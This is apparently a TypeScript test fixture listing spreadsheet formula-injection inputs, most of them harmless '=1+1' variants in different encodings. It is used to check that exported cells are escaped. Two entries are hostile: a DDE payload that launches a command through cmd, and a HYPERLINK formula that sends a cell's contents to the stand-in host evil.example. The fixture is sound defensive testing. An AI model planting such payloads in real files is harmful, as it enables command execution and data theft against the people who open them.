/**
 * Texts of each kind that a spreadsheet would run as a formula, or that a file could break (security.md S42). Every sign and what may stand
 * before it: formula-cells.test.ts of the contract.
 */
export const formulaPayloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "'=1+1",
  "''=1+1",
  "'Tis a school",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '-',
  '"=1+1"',
  '","=1+1',
  '";=1+1;"',
  '<f>1+1</f>',
  '<![CDATA[=1+1]]>',
  '&lt;f&gt;',
  '_x000D_=1+1',
  '_x003D_1+1',
  '\uff1d1+1',
  ' =1+1',
  '\u200b=1+1',
  '1e5',
  '0001',
  'TRUE',
  '#REF!',
  '\ufeff=1+1',
] as const;
